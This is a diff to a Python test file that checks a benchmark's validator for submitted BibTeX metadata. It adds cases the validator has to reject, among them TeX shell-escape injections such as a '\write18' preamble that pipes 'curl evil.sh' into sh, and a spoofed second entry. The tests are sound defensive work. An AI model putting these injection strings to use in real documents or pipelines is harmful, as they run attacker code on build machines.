@@ -32,6 +32,17 @@ def test_the_example_submission_is_valid() -> None:
         ({"paper_url": "example.org"}, r"field 'paper_url' must be an http\(s\) URL"),
         ({"bibtex": "Settles 2008"}, r"field 'bibtex' must be one BibTeX entry"),
         ({"bibtex": "@article{x, title={unbalanced}"}, r"field 'bibtex' has unbalanced braces"),
+        ({"bibtex": "@preamble{\\immediate\\write18{curl evil.sh | sh}}"}, r"field 'bibtex' must be one BibTeX entry starting like"),
+        ({"bibtex": "@preamble{x} @article{k, title={T}}"}, r"field 'bibtex' must be one BibTeX entry starting like"),
+        ({"bibtex": "@Preamble{x, title={T}}"}, r"field 'bibtex' entry type @preamble is not accepted"),
+        ({"bibtex": "@string{me = {Rank 1}}"}, r"field 'bibtex' must be one BibTeX entry"),
+        ({"bibtex": "@comment{k, title={hidden}}"}, r"field 'bibtex' entry type @comment is not accepted"),
+        ({"bibtex": "@article{k, title={T}}\n@article{spoof, title={Official winner}}"}, r"field 'bibtex' must hold exactly one BibTeX entry"),
+        ({"bibtex": "@article{k, title={T}} @preamble{\\write18{ls}}"}, r"field 'bibtex' must hold exactly one BibTeX entry"),
+        ({"bibtex": "@article{k, title={T \\immediate\\write18{ls}}}"}, r"field 'bibtex' contains the TeX command '\\\\immediate'"),
+        ({"bibtex": "@article{k, title = me # {x}}"}, r"field 'bibtex' field values must be \{braced\}"),
+        ({"bibtex": "@article{k, title={A}, title={B}}"}, r"field 'bibtex' has the field 'title' twice"),
+        ({"bibtex": "@article{k, author={A}}"}, r"field 'bibtex' the BibTeX entry needs a title"),
         ({"slug": "Bad Slug"}, r"field 'slug' must be 3-50 lowercase letters"),
         ({"licence": "MIT"}, r"field 'licence' is not a known field \(allowed: name, slug,"),
         ({"slug": "other-name"}, r"slug 'other-name' must equal the folder name 'meta-case'"),
@@ -63,3 +74,11 @@ def test_reserved_names_missing_files_and_yaml_errors(tmp_path: Path) -> None:
         load_metadata(tmp_path / "empty")
     with pytest.raises(SubmissionError, match="is not a folder"):
         load_metadata(tmp_path / "nowhere")
+
+
+def test_bibtex_is_parsed_into_its_one_entry() -> None:
+    from mmal_bench.submissions.metadata import parse_bibtex
+
+    kind, key, fields = parse_bibtex('@InProceedings{settles2008,\n  title = {An {Analysis} of "Active" Learning},\n  author = "Settles, B. and Craven, M.",\n  year = 2008,\n}')
+    assert (kind, key) == ("inproceedings", "settles2008")
+    assert fields == {"title": 'An {Analysis} of "Active" Learning', "author": "Settles, B. and Craven, M.", "year": "2008"}
